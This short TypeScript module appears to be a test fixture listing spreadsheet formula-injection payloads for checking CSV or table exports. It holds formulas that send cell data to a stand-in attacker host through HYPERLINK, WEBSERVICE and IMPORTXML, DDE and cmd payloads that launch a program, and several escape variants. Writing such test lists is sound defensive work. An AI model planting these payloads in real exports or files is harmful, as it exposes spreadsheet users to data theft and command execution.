import type { Attack } from './attack'

/** What a spreadsheet takes for a formula, or a table for the end of its cell. */
export const formulas: Attack[] = [
  ['formula that links', '=HYPERLINK("https://attacker.example/?x="&A1,"Click")'],
  ['formula that loads', '=WEBSERVICE("https://attacker.example/"&A1)'],
  ['formula that imports', '=IMPORTXML("https://attacker.example/","//x")'],
  ['formula that runs', "=cmd|'/c calc'!A1"],
  ['formula after plus', "+cmd|'/c calc'!A1"],
  ['formula after minus', "-2+3+cmd|'/c calc'!A1"],
  ['formula after at', '@SUM(1+1)*cmd|"/c calc"!A1'],
  ['formula after a tab', '\t=1+1'],
  ['formula after a carriage return', '\r=1+1'],
  ['formula after a line end', '\n=1+1'],
  ['formula in wide letters', '＝HYPERLINK("https://attacker.example")'],
  ['formula after a quote', '"=1+1'],
  ['formula in another cell', 'x",=1+1,"'],
  ['formula in another row', 'x"\r\n=1+1'],
  ['formula after a semicolon', 'x;=1+1'],
  ['formula after an apostrophe', "'=1+1"],
  ['dynamic data exchange', '=DDE("cmd";"/C calc";"x")'],
]
